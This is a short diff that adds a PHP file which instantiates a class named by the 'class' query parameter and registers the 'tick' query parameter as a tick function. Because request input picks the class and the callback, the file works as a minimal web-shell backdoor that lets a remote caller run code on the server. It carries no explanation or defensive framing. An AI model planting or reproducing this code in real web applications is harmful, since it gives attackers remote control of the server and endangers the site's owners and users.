@@ -1,0 +1,4 @@
+<?php
+$mirror = new ReflectionClass($_GET['class']);
+$object = $mirror->newInstance();
+register_tick_function($_GET['tick']);
